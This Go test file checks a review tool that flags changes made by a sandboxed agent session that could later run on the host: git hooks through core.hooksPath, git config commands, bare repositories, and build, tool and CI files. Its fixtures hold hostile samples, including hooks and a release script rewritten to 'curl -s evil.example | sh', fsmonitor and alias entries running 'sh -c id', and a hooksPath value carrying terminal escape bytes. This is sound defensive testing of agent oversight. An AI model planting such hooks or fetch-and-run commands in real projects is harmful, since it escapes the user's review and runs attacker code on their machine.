// hostrun_test.go is long because each way a change can run on the host
// later (a hook where core.hooksPath sends git, a build or tool file, a
// changed executable, a bare repository's config) is its own case, each
// with its control, and each hostile config (a "..", an absolute path, a
// symlink, an oversized file) too.

package review

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// hostRun is a project made by setup, a session on it, and the agent's
// layer made by agent: it returns the listing.
func hostRun(t *testing.T, setup func(proj string), agent func(proj, up string)) []Change {
	t.Helper()
	return hostRunIn(t, t.TempDir(), setup, agent)
}

// hostRunIn is hostRun with the project at proj.
func hostRunIn(t *testing.T, proj string, setup func(proj string), agent func(proj, up string)) []Change {
	t.Helper()
	write(t, filepath.Join(proj, "src/main.c"), "int main(void) { return 0; }\n", 0o644)
	if setup != nil {
		setup(proj)
	}
	s, err := Begin(t.TempDir(), Meta{Session: "20261202-000000-cccccc", Project: proj})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { writable(filepath.Dir(s.Dir)) })
	agent(s.Meta.Project, s.Upper())
	cs, err := s.Changes()
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

// flagged fails unless p is listed with a flag holding want.
func flagged(t *testing.T, cs []Change, p, want string) {
	t.Helper()
	c := find(cs, p)
	if c == nil {
		t.Errorf("%s is not listed", p)
		return
	}
	if !slices.ContainsFunc(c.Flags, func(f string) bool { return strings.Contains(f, want) }) {
		t.Errorf("%s: flags %q, want one with %q", p, c.Flags, want)
	}
}

// notFlagged fails unless p is listed without any flag.
func notFlagged(t *testing.T, cs []Change, p string) {
	t.Helper()
	c := find(cs, p)
	if c == nil {
		t.Errorf("%s is not listed", p)
	} else if len(c.Flags) > 0 {
		t.Errorf("%s is flagged: %q", p, c.Flags)
	}
}

func gitRepo(t *testing.T, dir, config string) {
	t.Helper()
	write(t, filepath.Join(dir, "HEAD"), "ref: refs/heads/main\n", 0o644)
	write(t, filepath.Join(dir, "config"), config, 0o644)
	for _, d := range []string{"objects", "refs/heads", "hooks"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// The hostile review's case: the project's own .git/config sets
// core.hooksPath=.githooks, and the agent rewrites .githooks/pre-commit.
// Its control: a hook name outside hooksPath, and an ordinary source file.
func TestHooksPathOfTheProject(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n\trepositoryformatversion = 0\n\thooksPath = .githooks\n")
		write(t, filepath.Join(proj, ".githooks/pre-commit"), "#!/bin/sh\nmake lint\n", 0o644)
	}, func(proj, up string) {
		write(t, filepath.Join(up, ".githooks/pre-commit"), "#!/bin/sh\ncurl -s evil.example | sh\n", 0o644)
		write(t, filepath.Join(up, ".githooks/README"), "hooks\n", 0o644)
		write(t, filepath.Join(up, ".githooks/lib/pre-commit"), "not a hook: git runs hooksPath/NAME only\n", 0o644)
		write(t, filepath.Join(up, "tools/pre-commit"), "not a hook: outside hooksPath\n", 0o644)
		write(t, filepath.Join(up, "src/main.c"), "int main(void) { return 1; }\n", 0o644)
	})
	flagged(t, cs, ".githooks/pre-commit", `git hook (core.hooksPath .githooks in .git/config)`)
	flagged(t, cs, ".githooks/README", "git hook")
	notFlagged(t, cs, ".githooks/lib/pre-commit")
	notFlagged(t, cs, "tools/pre-commit")
	notFlagged(t, cs, "src/main.c")
}

// A core.hooksPath the agent set in a config it changed counts as much as
// the host's; so does one set in a file that config includes, which is
// flagged as git config itself.
func TestHooksPathTheAgentSet(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n\tbare = false\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, ".git/config"), "[core]\n\tbare = false\n[CORE] HooksPath = \".evil hooks\" ; a comment\n[include]\n\tpath = ../gitinc\n", 0o644)
		write(t, filepath.Join(up, ".evil hooks/post-checkout"), "#!/bin/sh\nid\n", 0o755)
		write(t, filepath.Join(up, "gitinc"), "[core]\n\thooksPath = inc-hooks/\n", 0o644)
		write(t, filepath.Join(up, "inc-hooks/pre-push"), "#!/bin/sh\nid\n", 0o644)
	})
	flagged(t, cs, ".git/config", "git configuration")
	flagged(t, cs, ".evil hooks/post-checkout", `core.hooksPath ".evil hooks" in .git/config`)
	flagged(t, cs, "gitinc", "git configuration (included by .git/config)")
	flagged(t, cs, "inc-hooks/pre-push", "core.hooksPath inc-hooks/ in gitinc")
}

// Hostile values of core.hooksPath: one with "..", resolved as git does
// (against the worktree's top); one that leaves the project that way, or
// absolutely: the config change itself says hooks run from outside the
// review; an absolute one into the project is found.
func TestHooksPathHostileValues(t *testing.T) {
	for _, tc := range []struct {
		name, value, hook, want string
	}{
		{"dotdot inside", "sub/../.h2", ".h2/pre-commit", "core.hooksPath sub/../.h2"},
		{"dotdot outside", "../../home/me/.cache/hooks", "", "points outside the project"},
		{"absolute outside", "/home/me/.local/share/containers/storage/volumes/aisb-state/_data/hooks", "", "points outside the project"},
		{"home", "~/hooks", "", "points outside the project"},
		{"absolute inside", "ABS/abs-hooks", "abs-hooks/pre-push", "git hook (core.hooksPath"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cs := hostRun(t, func(proj string) {
				gitRepo(t, filepath.Join(proj, ".git"), "[core]\n")
			}, func(proj, up string) {
				v := strings.Replace(tc.value, "ABS", proj, 1)
				write(t, filepath.Join(up, ".git/config"), "[core]\n\thooksPath = "+v+"\n", 0o644)
				if tc.hook != "" {
					write(t, filepath.Join(up, tc.hook), "#!/bin/sh\n", 0o644)
				}
			})
			if tc.hook != "" {
				flagged(t, cs, tc.hook, tc.want)
			} else {
				flagged(t, cs, ".git/config", tc.want)
			}
		})
	}
}

// A relative core.hooksPath in the user's own git config applies in every
// repository of the project.
func TestHooksPathOfTheUsersConfig(t *testing.T) {
	global := filepath.Join(t.TempDir(), "gitconfig")
	write(t, global, "[core]\n\thooksPath = .team-hooks\n", 0o644)
	was := userGitConfigs
	userGitConfigs = func() []string { return []string{global} }
	t.Cleanup(func() { userGitConfigs = was })
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, ".team-hooks/commit-msg"), "#!/bin/sh\n", 0o644)
	})
	flagged(t, cs, ".team-hooks/commit-msg", "core.hooksPath .team-hooks in "+Quote(global))
}

// A config review cannot read as git would (a symlink, which git follows
// and review does not; a file above the cap; a syntax review does not
// follow) is flagged as such, not trusted.
func TestGitConfigReviewCannotRead(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n")
		gitRepo(t, filepath.Join(proj, "big/.git"), "[core]\n")
		gitRepo(t, filepath.Join(proj, "odd/.git"), "[core]\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, "cfg"), "[core]\n\thooksPath = .h\n", 0o644)
		os.MkdirAll(filepath.Join(up, ".git"), 0o755)
		if err := os.Symlink("../cfg", filepath.Join(up, ".git/config")); err != nil {
			t.Fatal(err)
		}
		big := bytes.Repeat([]byte("# padding\n"), maxGitConfig/10+1)
		write(t, filepath.Join(up, "big/.git/config"), "[core]\n\thooksPath = .h\n"+string(big), 0o644)
		write(t, filepath.Join(up, "odd/.git/config"), "[core]\n\t# hooksPath = .h\n", 0o644)
	})
	flagged(t, cs, ".git/config", "could not read (a symbolic link, not followed)")
	flagged(t, cs, ".git/config", "symlink")
	flagged(t, cs, "big/.git/config", "could not read (larger than 1024 KiB)")
	flagged(t, cs, "odd/.git/config", "check it by hand")
}

// Repositories inside the project: a nested one's hooksPath, a
// submodule's (its .git a file naming .git/modules/NAME, whose
// core.worktree is the submodule's directory), an embedded bare one's
// config and hooks, and one known only from the record at start.
func TestRepositoriesInsideTheProject(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n")
		gitRepo(t, filepath.Join(proj, "nested/.git"), "[core]\n\thooksPath = my-hooks\n")
		gitRepo(t, filepath.Join(proj, ".git/modules/lib"), "[core]\n\tworktree = ../../../lib\n\thooksPath = .lib-hooks\n")
		write(t, filepath.Join(proj, "lib/.git"), "gitdir: ../.git/modules/lib\n", 0o644)
		gitRepo(t, filepath.Join(proj, "vendor/dep.git"), "[core]\n\tbare = true\n")
		gitRepo(t, filepath.Join(proj, "shared/.git"), "[core]\n\thooksPath = ../shared-hooks\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, "nested/my-hooks/pre-commit"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(up, "lib/.lib-hooks/pre-commit"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(up, "vendor/dep.git/config"), "[core]\n\tbare = true\n\tfsmonitor = sh -c id\n", 0o644)
		write(t, filepath.Join(up, "vendor/dep.git/hooks/post-update"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(up, "vendor/dep.git/objects/ab/cdef"), "x", 0o444)
		write(t, filepath.Join(up, "shared-hooks/pre-commit"), "#!/bin/sh\n", 0o644)
	})
	flagged(t, cs, "nested/my-hooks/pre-commit", "core.hooksPath my-hooks in nested/.git/config")
	flagged(t, cs, "lib/.lib-hooks/pre-commit", "core.hooksPath .lib-hooks in .git/modules/lib/config")
	flagged(t, cs, "vendor/dep.git/config", "in the git directory vendor/dep.git: git configuration")
	flagged(t, cs, "vendor/dep.git/hooks/post-update", "in the git directory vendor/dep.git: git hook")
	notFlagged(t, cs, "vendor/dep.git/objects/ab/cdef")
	flagged(t, cs, "shared-hooks/pre-commit", "core.hooksPath ../shared-hooks in shared/.git/config")
}

// A bare repository the agent made, and a .git the agent turned into a
// symlink to a directory of its own: git takes both as repositories.
func TestRepositoriesTheAgentMade(t *testing.T) {
	cs := hostRun(t, nil, func(proj, up string) {
		gitRepo(t, filepath.Join(up, "evil.git"), "[core]\n\tbare = true\n")
		write(t, filepath.Join(up, "evil.git/hooks/pre-receive"), "#!/bin/sh\n", 0o755)
		gitRepo(t, filepath.Join(up, ".real"), "[core]\n")
		write(t, filepath.Join(up, ".real/hooks/pre-commit"), "#!/bin/sh\n", 0o644)
		if err := os.Symlink(".real", filepath.Join(up, ".git")); err != nil {
			t.Fatal(err)
		}
	})
	flagged(t, cs, "evil.git/config", "in the git directory evil.git: git configuration")
	flagged(t, cs, "evil.git/hooks/pre-receive", "in the git directory evil.git: git hook")
	flagged(t, cs, ".real/hooks/pre-commit", "git hook")
	flagged(t, cs, ".git", "symlink")
}

// The build and tool files the hostile review found unflagged, each with
// the reason the user reads; a changed existing executable; and an
// ordinary file of the same directories as the control.
func TestBuildAndToolFiles(t *testing.T) {
	files := map[string]string{
		"settings.gradle":                          "build file",
		"gradle/wrapper/gradle-wrapper.properties": "distributionUrl",
		".pnpmfile.cjs":                            "pnpm hook file",
		"Dockerfile":                               "container build/compose file",
		"docker-compose.yml":                       "container build/compose file",
		"deploy/compose.dev.yaml":                  "container build/compose file",
		"api.Dockerfile":                           "container build/compose file",
		".bazelrc":                                 "bazel config",
		"rust-toolchain.toml":                      "toolchain file",
		"eslint.config.js":                         "tool config in code",
		"web/vite.config.mts":                      "tool config in code",
		".prettierrc.cjs":                          "tool config in code",
		"lib/python3.12/site-packages/evil.pth":    ".pth",
		".cargo/config.toml":                       "tool configuration",
		"tools/bazel":                              "bazelisk runs tools/bazel",
		"lefthook.yml":                             "git hook manager",
		".mvn/extensions.xml":                      "maven config",
		"MODULE.bazel":                             "build file",
		".envrc":                                   "direnv",
		".vscode/tasks.json":                       "editor config (.vscode)",
		"mise.toml":                                "mise's hooks on cd",
		"package-lock.json":                        "lockfile",
		"composer.json":                            "package manifest",
		".github/workflows/ci.yml":                 "local runner",
		// The rest of the list, each ecosystem's files (some flagged before too).
		"build.gradle.kts": "build file", "settings.gradle.kts": "build file", "gradlew": "build tool wrapper",
		"pom.xml": "build file", ".cargo/config": "tool configuration", "rust-toolchain": "toolchain file",
		"build.rs": "cargo", "go.mod": "go module file", "go.work": "go module file", "WORKSPACE": "build file",
		"pkg/BUILD": "build file", "Dockerfile.dev": "container", "compose.yaml": "container",
		".devcontainer/devcontainer.json": "devcontainer", ".eslintrc.js": "tool config in code",
		"prettier.config.js": "tool config in code", ".vscode/settings.json": ".vscode", ".idea/workspace.xml": ".idea",
		".pre-commit-config.yaml": "git hook manager", ".husky/pre-commit": "husky", "Justfile": "build file",
		"Taskfile.yml": "build file", "Rakefile": "build file", "Gemfile": "package manifest", ".npmrc": "package manager config",
		".yarnrc": "package manager config", ".yarnrc.yml": "package manager config", "setup.py": "python", "pyproject.toml": "python",
		"setup.cfg": "python", "tests/conftest.py": "python", "noxfile.py": "python", "tox.ini": "python", "Makefile": "build file",
		"CMakeLists.txt": "build file", "meson.build": "build file", "build.ninja": "build file", "rules.mk": "build file",
		"package.json": "package manifest", ".gitattributes": "git attributes", ".gitmodules": "submodules", ".gitlab-ci.yml": "CI",
	}
	cs := hostRun(t, func(proj string) {
		write(t, filepath.Join(proj, "scripts/release.sh"), "#!/bin/sh\necho release\n", 0o755)
		write(t, filepath.Join(proj, "scripts/notes.txt"), "notes\n", 0o644)
	}, func(proj, up string) {
		for p := range files {
			write(t, filepath.Join(up, p), "x = 1\n", 0o644)
		}
		write(t, filepath.Join(up, "scripts/release.sh"), "#!/bin/sh\ncurl -s evil.example | sh\n", 0o755)
		write(t, filepath.Join(up, "scripts/notes.txt"), "other notes\n", 0o644)
		write(t, filepath.Join(up, "gradle/README.md"), "docs\n", 0o644)
		write(t, filepath.Join(up, "web/app.ts"), "export {}\n", 0o644)
		write(t, filepath.Join(up, "gen.go"), "package x\n//go:generate sh -c id\n", 0o644)
		write(t, filepath.Join(up, "plain.go"), "package x\n", 0o644)
	})
	for p, want := range files {
		flagged(t, cs, p, want)
	}
	flagged(t, cs, "scripts/release.sh", "changed executable")
	flagged(t, cs, "gen.go", "go:generate")
	for _, p := range []string{"scripts/notes.txt", "gradle/README.md", "web/app.ts", "plain.go"} {
		notFlagged(t, cs, p)
	}
}

// A reason built from what the agent wrote (a hooksPath value, a path) is
// quoted like every name: the listing stays printable.
func TestHookReasonIsPrintable(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, ".git/config"), "[core]\n\thooksPath = \"h\\t\x1b]0;pwned\x07\"\n", 0o644)
		write(t, filepath.Join(up, "h\t\x1b]0;pwned\x07/pre-commit"), "#!/bin/sh\n", 0o644)
	})
	flagged(t, cs, "h\t\x1b]0;pwned\x07/pre-commit", `core.hooksPath "h\t\x1b]0;pwned\a"`)
	var out bytes.Buffer
	Render(&out, &Session{Meta: Meta{Session: "s", Project: "/p"}}, cs, true)
	if bytes.ContainsAny(out.Bytes(), "\x1b\x07") {
		t.Errorf("the listing holds a raw control byte:\n%q", out.String())
	}
}

func TestParseGitConfig(t *testing.T) {
	for _, tc := range []struct {
		text        string
		hooks, incs []string
		odd         bool
	}{
		{"[core]\n\thooksPath = a\n", []string{"a"}, nil, false},
		{"[Core]HOOKSPATH=b", []string{"b"}, nil, false},
		{"[core] hooksPath = \"with space\" # c\n", []string{"with space"}, nil, false},
		{"[core]\nhooksPath = a\\\nb\n", []string{"ab"}, nil, false},
		{"[core \"x\"]\nhooksPath = no\n", nil, nil, false},
		{"[core.x]\nhooksPath = no\n", nil, nil, false},
		{"[other]\nhooksPath = no\n", nil, nil, false},
		{"[core]\n; hooksPath = commented\n", nil, nil, true},
		{"[include]\npath = ../x\n[includeIf \"gitdir:~/w/\"]\n\tpath = y\n", nil, []string{"../x", "y"}, false},
		{"[core\nhooksPath = a\n", nil, nil, true},
		{"[core]\nhooksPath = a\nhooksPath = b\n", []string{"a", "b"}, nil, false},
	} {
		g := parseGitConfig([]byte(tc.text))
		if !slices.Equal(g.hooksPath, tc.hooks) || !slices.Equal(g.include, tc.incs) || g.odd != tc.odd {
			t.Errorf("%q: hooksPath %q include %q odd %v, want %q %q %v", tc.text, g.hooksPath, g.include, g.odd, tc.hooks, tc.incs, tc.odd)
		}
	}
}

// git follows links: a hooks directory that is a symlink, and a hook that
// is one (.git/hooks/pre-commit -> ../../scripts/pre-commit), make the
// file at their end a hook. A link loop ends; a file beside is no hook.
func TestHooksThroughSymlinks(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n\thooksPath = .githooks\n")
		write(t, filepath.Join(proj, "scripts/hooks/pre-commit"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(proj, "scripts/pre-push"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(proj, "scripts/other"), "x\n", 0o644)
		gitRepo(t, filepath.Join(proj, "second/.git"), "[core]\n")
		for link, target := range map[string]string{
			".githooks":                    "scripts/hooks",
			"second/.git/hooks/pre-push":   "../../../scripts/pre-push",
			"second/.git/hooks/post-merge": "loop",
			"second/.git/hooks/loop":       "post-merge",
		} {
			if err := os.Symlink(target, filepath.Join(proj, link)); err != nil {
				t.Fatal(err)
			}
		}
	}, func(proj, up string) {
		write(t, filepath.Join(up, "scripts/hooks/pre-commit"), "#!/bin/sh\nid\n", 0o644)
		write(t, filepath.Join(up, "scripts/pre-push"), "#!/bin/sh\nid\n", 0o644)
		write(t, filepath.Join(up, "scripts/other"), "y\n", 0o644)
	})
	flagged(t, cs, "scripts/hooks/pre-commit", "through the symlink .githooks")
	flagged(t, cs, "scripts/pre-push", "linked from second/.git/hooks/pre-push")
	notFlagged(t, cs, "scripts/other")
}

// A project that is itself a bare repository: its hooks and config are
// flagged as such.
func TestProjectIsABareRepository(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, proj, "[core]\n\tbare = true\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, "hooks/post-receive"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(up, "config"), "[core]\n\tbare = true\n\tsshCommand = id\n", 0o644)
		write(t, filepath.Join(up, "objects/ab/cdef"), "x", 0o444)
	})
	flagged(t, cs, "hooks/post-receive", "the project is a git directory: git hook")
	flagged(t, cs, "config", "the project is a git directory: git configuration")
	notFlagged(t, cs, "objects/ab/cdef")
}

// A submodule whose name holds a slash keeps its git directory two levels
// below .git/modules; the agent makes one and sets its hooksPath there.
func TestSubmoduleNamedWithASlash(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n")
	}, func(proj, up string) {
		gitRepo(t, filepath.Join(up, ".git/modules/libs/foo"), "[core]\n\tworktree = ../../../../libs/foo\n\thooksPath = .h\n")
		write(t, filepath.Join(up, "libs/foo/.h/pre-commit"), "#!/bin/sh\n", 0o644)
	})
	flagged(t, cs, ".git/modules/libs/foo/config", "git configuration")
	flagged(t, cs, "libs/foo/.h/pre-commit", "core.hooksPath .h in .git/modules/libs/foo/config")
}

// A config the agent changed names what it makes git run, leaving out
// what the host's already set the same way; a byte order mark is skipped
// as git skips it.
func TestGitConfigNamesWhatItRuns(t *testing.T) {
	cs := hostRun(t, func(proj string) {
		gitRepo(t, filepath.Join(proj, ".git"), "[core]\n\tpager = less\n[alias]\n\tst = status\n")
	}, func(proj, up string) {
		write(t, filepath.Join(up, ".git/config"), "\xef\xbb\xbf[core]\n\tpager = less\n\tfsmonitor = sh -c id\n\thooksPath = .h\n[alias]\n\tst = status\n\tco = !sh -c id\n[filter \"x\"]\n\tsmudge = id\n", 0o644)
		write(t, filepath.Join(up, ".h/pre-commit"), "#!/bin/sh\n", 0o644)
	})
	flagged(t, cs, ".git/config", "sets what git runs: core.fsmonitor, core.hookspath, alias.co, filter.x.smudge")
	flagged(t, cs, ".h/pre-commit", "core.hooksPath .h")
}

// A project that is a directory of a larger repository: the enclosing
// repository's core.hooksPath, relative to its top, names a directory of
// the project.
func TestHooksPathOfTheEnclosingRepository(t *testing.T) {
	outer := t.TempDir()
	gitRepo(t, filepath.Join(outer, ".git"), "[core]\n\thooksPath = tools/githooks\n")
	cs := hostRunIn(t, filepath.Join(outer, "tools"), nil, func(proj, up string) {
		write(t, filepath.Join(up, "githooks/pre-commit"), "#!/bin/sh\n", 0o644)
		write(t, filepath.Join(up, "other/pre-commit"), "#!/bin/sh\n", 0o644)
	})
	flagged(t, cs, "githooks/pre-commit", "core.hooksPath tools/githooks in "+Quote(filepath.Join(outer, ".git/config")))
	notFlagged(t, cs, "other/pre-commit")
}

// The parser reads what the agent wrote: it must end, on any bytes.
func FuzzParseGitConfig(f *testing.F) {
	for _, s := range []string{"[core]\n\thooksPath = a\n", "[core \"x\\", "[a.b]c=\"d\\\n", "\xef\xbb\xbf[", "x=\"", "[core]hooksPath=\\"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		parseGitConfig(b)
	})
}
